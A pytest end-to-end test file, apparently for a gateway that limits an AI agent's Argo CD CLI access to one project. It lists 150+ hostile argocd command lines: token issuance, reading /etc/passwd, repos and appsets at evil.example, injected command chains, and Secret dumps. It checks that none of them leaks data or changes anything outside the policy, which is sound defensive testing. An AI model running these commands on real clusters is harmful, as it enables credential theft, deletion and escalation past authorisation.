"""Command lines that try to pass by a policy, with the real binary and Argo CD: only their effect counts.

The agent may do everything with the applications of ``team-a``, but override. Nothing of another project may come back,
nothing there may change, no token may be issued, and every call that was let through must be one of its policy.
"""

from __future__ import annotations

import json
import re
import uuid
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e.argocd.conftest import IN_CLUSTER, SECRET_VALUE, applications

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.conftest import Tried
    from tests.e2e.argocd.conftest import ArgoAgent, Site

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(240)]

MINE = "team-a/*"
ACTIONS = "get create update delete sync action/* update/* delete/*"
MARK = "only-payments-knows"
# What no harmless answer holds: a token of Argo CD or of the Pod, a key, the machine's files, a Secret's value.
CREDENTIALS = ("eyJhbGciOi", "PRIVATE KEY", "root:x:0:0", SECRET_VALUE)
REPO = f"--path web --dest-server {IN_CLUSTER} --dest-namespace hostile"

IDENTITY = [
    "app list --server evil.example:443",
    "app list --server=127.0.0.1:1",
    "app list --auth-token eyJ0.x.y",
    "app list --auth_token x",
    "app list -H 'Authorization: Bearer x'",
    "app list --header 'Token: x'",
    "app list --plaintext",
    "app list --insecure",
    "app list --config /etc/passwd",
    "app list --core",
    "app list --core=true --kube-context gateway",
    "app list --port-forward",
    "app list --port-forward-namespace argocd",
    "app list --grpc-web-root-path /api/v1",
    "app list --grpc-web=false",
    "app list --client-crt /etc/passwd --client-crt-key /etc/passwd",
    "app list --server-crt /dev/null",
    "app list --argocd-context ../main",
    "app list --argocd-context second",
    "--argocd-context=second app get payments-app",
    "login 127.0.0.1 --username admin --password fixture-only",
    "login --core",
    "relogin",
    "logout main",
    "context main --delete",
    "account generate-token --account k8s-mcp-server",
    "account generate-token",
    "account session-token",
    "account update-password --account admin --current-password fixture-only --new-password hostile-1",
    "account list",
    "account get --account admin",
    "account delete-token --account k8s-mcp-server x",
    "proj role create-token team-a reader --token-only",
    "proj role token-create team-a reader",
    "project role create-token team-a reader",
    "admin export",
    "admin initial-password",
    "admin cluster kubeconfig https://kubernetes.default.svc /dev/stdout",
    "admin settings rbac can role:admin get applications",
    "__complete app get ''",
    "__completeNoDesc app get ''",
    "completion bash",
]
READING = [
    "app list",
    "app list -o json",
    "app list -p payments",
    "app list --project payments -o yaml",
    "app list -l owner=payments -o yaml",
    "app list -N argocd -o json",
    "app list -N payments",
    "app list -N ''",
    "app list -r file:///tmp",
    "app list -c https://kubernetes.default.svc",
    "app get payments-app",
    "app get argocd/payments-app",
    "app get payments-app --project payments",
    "app get payments-app --project team-a",
    "app get payments-app -N argocd --refresh",
    "app get payments-app --hard-refresh",
    "app get team-a/payments-app",
    "app get 'team-a/../payments-app'",
    "app get 'payments-app\nteam-a-app'",
    "app get PAYMENTS-APP",
    "app get '*'",
    "app get ''",
    "app get team-a-app -N payments",
    "app get team-a-app payments-app",
    "app history payments-app",
    "app resources payments-app",
    "app manifests payments-app",
    "app manifests payments-app --source live",
    "app diff payments-app",
    "app diff team-a-app --server-side-diff",
    "app diff team-a-app --local /etc",
    "app manifests team-a-app --local /etc",
    "app manifests team-a-app --revision '../../../etc'",
    "app logs payments-app",
    "app logs team-a-app",
    "app get-resource payments-app --kind Deployment",
    "app get-resource payments-app --kind Secret -o json",
    "app actions list payments-app",
    "app wait payments-app --timeout 2",
    "app wait -l owner=payments --timeout 2",
    "proj list",
    "proj get payments",
    "proj role list payments",
    "proj role get payments reader",
    "proj role list-tokens payments reader",
    "proj windows list payments",
    "cluster list -o json",
    "cluster get https://kubernetes.default.svc",
    "cluster get in-cluster",
    "repo list",
    "repo get file:///tmp",
    "repocreds list",
    "cert list",
    "gpg list",
    "appset list",
    "appset get payments-set",
    "account can-i get applications 'payments/*'",
    "account can-i '*' '*' '*'",
]
WRITING = [
    "app sync payments-app",
    "app sync team-a-app payments-app --async",
    "app sync -l owner=payments",
    "app sync --project payments",
    "app sync payments-app --dry-run",
    "app sync team-a-app --local /etc",
    "app sync team-a-app --revision other-branch",
    "app rollback payments-app 0",
    "app terminate-op payments-app",
    "app delete payments-app --yes",
    "app rm payments-app -y",
    "app delete -l owner=payments -y",
    "app delete payments-app team-a-app -y --propagation-policy background --cascade=false",
    "app set payments-app --revision x",
    "app set payments-app --project team-a",
    "app set team-a-app --project payments",
    "app set team-a-app --project default",
    "app set team-a-app --project ''",
    "app set team-a-app --values-literal-file /etc/passwd",
    "app set team-a-app --values-literal-file https://evil.example/x",
    "app unset payments-app --ref",
    "app edit payments-app",
    "app patch payments-app --patch '[]'",
    'app patch team-a-app --type merge --patch \'{"spec":{"project":"payments"}}\'',
    'app patch team-a-app --type merge --patch \'{"spec":{"project":"team-a","project":"payments"}}\'',
    'app patch team-a-app --type merge --patch \'{"metadata":{"name":"payments-app"}}\'',
    'app patch team-a-app --type merge --patch \'{"metadata":{"namespace":"payments"}}\'',
    'app patch team-a-app --type merge --patch \'{"operation":{"sync":{}}}\'',
    "app patch team-a-app --type strategic --patch '{}'",
    'app patch team-a-app --patch \'[{"op":"replace","path":"","value":{}}]\'',
    'app patch team-a-app --patch \'[{"op":"move","from":"/metadata/name","path":"/spec/project"}]\'',
    f"app create payments-app --repo REPO {REPO} --project team-a --upsert",
    f"app create payments-app --repo REPO {REPO} --project payments --upsert",
    f"app create hostile-app --repo REPO {REPO} --project payments",
    f"app create hostile-app --repo REPO {REPO} --project 'team-a/x'",
    f"app create hostile-app --repo REPO {REPO} --project team-a -N payments",
    f"app create hostile-app --repo REPO {REPO}",
    "app create -f /etc/passwd",
    "app create -f https://evil.example/app.yaml",
    "app add-source payments-app --repo REPO --path web",
    "app confirm-deletion payments-app",
    "app actions run payments-app restart --kind Deployment --all",
    "app patch-resource payments-app --kind Deployment --resource-name web --patch '{}'",
    "app patch-resource team-a-app --kind Secret --resource-name credentials --patch '{}'",
    "app delete-resource payments-app --kind Deployment --resource-name web",
    "proj create hostile",
    "proj delete payments",
    "proj set payments -d '*,*'",
    "proj edit payments",
    "proj add-source payments '*'",
    "proj role add-policy team-a reader -a '*' -p allow -o '*'",
    "proj role add-group payments reader hostile",
    "repo add https://evil.example/x --password x",
    "repo add git@evil.example:x --ssh-private-key-path /etc/passwd",
    "repo rm file:///tmp",
    "cluster add gateway --yes",
    "cluster rm https://kubernetes.default.svc -y",
    "cluster rotate-auth https://kubernetes.default.svc",
    "cluster set in-cluster --namespace x",
    "repocreds add https://evil.example --password x",
    "cert add-tls evil.example --from /etc/passwd",
    "gpg add --from /etc/passwd",
    "appset create https://evil.example/set.yaml",
    "appset delete payments-set -y",
    "appset generate /etc/passwd",
    "app list && argocd app delete payments-app",
    "app list; argocd app delete payments-app -y",
    "app list | xargs argocd app delete -y",
    "app get $(argocd app list -o name)",
    "app list > /tmp/x",
    "app list | kubectl get secrets -n argocd",
]
LINES = [*IDENTITY, *READING, *WRITING]


@pytest.fixture(scope="module")
def world(site: Site) -> Iterator[Site]:
    """What is out of reach holds a mark, and something that could be read, changed or run."""
    for app in ("payments-app", "team-b-app"):
        labels = ("owner=payments", f"mark={MARK}")
        site.cluster.kubectl("label", "applications.argoproj.io", app, "-n", "argocd", *labels, "--overwrite")
    for project in ("payments", "team-b"):
        site.argocd.add_project(project, description=MARK, roles=[{"name": "reader", "description": MARK}])
    site.add_application("hidden-secret", project="payments", path="secret", namespace="payments")
    site.await_status("hidden-secret")
    yield site
    site.remove_application("hidden-secret")


@pytest.fixture(scope="module")
def foreign(world: Site) -> Callable[[], Any]:
    """Everything of Argo CD that no line may change."""

    def look() -> Any:
        objects = _items(world, "applications.argoproj.io,appprojects.argoproj.io,applicationsets.argoproj.io")
        kept = {_key(each): _wanted(each) for each in objects if each["spec"].get("project") != "team-a"}
        settings = {_key(each): each.get("data") for each in _items(world, "secrets,configmaps")}
        namespaces = world.cluster.kubectl("get", "namespaces", "-o", "name").stdout.split()
        return kept, settings, [name for name in namespaces if name != "namespace/team-a"]

    return look


def _items(site: Site, kinds: str) -> list[dict[str, Any]]:
    listed = json.loads(site.cluster.kubectl("get", kinds, "-n", "argocd", "-o", "json").stdout)
    return list(listed["items"])


def _key(each: dict[str, Any]) -> tuple[str, str]:
    return each["kind"], each["metadata"]["name"]


def _wanted(each: dict[str, Any]) -> Any:
    """What somebody asked for; Argo CD's controller writes the rest when it likes."""
    metadata = each["metadata"]
    operation = each.get("operation"), each.get("status", {}).get("operationState")
    return each["spec"], metadata.get("labels"), metadata.get("finalizers"), metadata["uid"], operation


@pytest.fixture
def agent(world: Site, agent_with: Callable[..., ArgoAgent]) -> ArgoAgent:
    """Everything with the applications of team-a, but override."""
    del world
    return agent_with(applications(ACTIONS, MINE))


def test_there_are_enough_of_them() -> None:
    assert len(set(LINES)) == len(LINES) >= 150


@pytest.mark.parametrize(
    "lines", [pytest.param(IDENTITY, id="who"), pytest.param(READING, id="read"), pytest.param(WRITING, id="write")]
)
@pytest.mark.timeout(500)
def test_no_line_has_an_effect_beyond_the_policy(
    world: Site, foreign: Callable[[], Any], agent: ArgoAgent, tried: Tried, lines: list[str]
) -> None:
    before = foreign()
    holes = []
    for line in lines:
        answer = agent.run(line.replace("REPO", world.repository.url), timeout=20)
        holes += [f"{line}: shows {found}" for found in _shown(answer.everything, line)]
        holes += [f"{line}: called {call}" for call in _beyond(world, answer.fields.get("command_id", ""))]
    assert holes == []
    assert foreign() == before
    assert world.application("team-a-app")  # the lines that name it had something to name
    tried("argocd", *lines)


def _shown(text: str, line: str) -> list[str]:
    """What an answer holds that it must not: credentials, the mark, and names that the line did not have itself."""
    names = ("payments", "team-b", "hidden-secret", "mcp-server-token")
    told = [name for name in names if name in text and name not in line]
    return [*told, *(found for found in (*CREDENTIALS, MARK) if found in text)]


def _beyond(site: Site, command_id: str) -> list[str]:
    """Calls that were let through and are not of the policy."""
    records = [each for each in site.requests(command_id) if each["verdict"] != "deny"]
    return [f"{each['target']} {each['attributes']}" for each in records if not _is_given(each)]


def _is_given(record: dict[str, Any]) -> bool:
    attributes = record["attributes"] or {}
    if attributes.get("path") == "/version":
        return True
    resource, name, verb = (attributes.get(key, "") for key in ("resource", "name", "verb"))
    if resource == "applications" and not name:
        return bool(verb == "get" and record["verdict"] == "filtered")
    if resource == "applications":
        return name.startswith("team-a/") and re.fullmatch(r"(action|update|delete)/.*|[a-z]+", verb) is not None
    return bool(resource == "projects" and verb == "get" and (name == "team-a" or record["verdict"] == "filtered"))


def test_the_agent_can_do_its_work(agent: ArgoAgent) -> None:
    """The same policy is good for something, so that the lines fail by what they ask and not by everything failing."""
    assert agent.run("app get team-a-app").status == "succeeded"
    assert agent.run("app sync team-a-app").status == "succeeded"
    assert agent.run("proj get team-a").status == "succeeded"


@pytest.mark.parametrize("upsert", ["", " --upsert"])
def test_a_history_of_the_client_s_own_is_no_way_around_override(
    site: Site, agent_with: Callable[..., ArgoAgent], fresh: Callable[..., str], upsert: str
) -> None:
    """A rollback goes by the status, whose source no project has looked at; and a status comes with a manifest."""
    name = fresh() if upsert else f"made-up-{uuid.uuid4().hex[:6]}"
    source = {"repoURL": site.repository.url, "path": "web", "targetRevision": "main"}
    other = {"revision": "main", "source": {**source, "path": "secret"}}
    manifest = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Application",
        "metadata": {"name": name},
        "spec": {
            "project": "team-a",
            "source": source,
            "destination": {"server": IN_CLUSTER, "namespace": name},
            "syncPolicy": {"syncOptions": ["CreateNamespace=true"]},
        },
        "status": {"history": [{"id": 7, "deployedAt": "2026-01-01T00:00:00Z", **other}]},
        "operation": {"sync": other},
    }
    agent = agent_with(applications("get create update sync", MINE))
    try:
        created = agent.run(f"app create -f app.yaml{upsert}", files={"app.yaml": json.dumps(manifest)})
        assert created.status == "succeeded", created.text
        rolled = agent.run(f"app rollback {name} 7", timeout=30)
        assert (rolled.status, "does not have deployment id '7'" in rolled.text) == ("failed", True), rolled.text
        assert "credentials" not in site.cluster.kubectl("get", "secrets", "-n", name, check=False).stdout
    finally:
        site.remove_application(name)
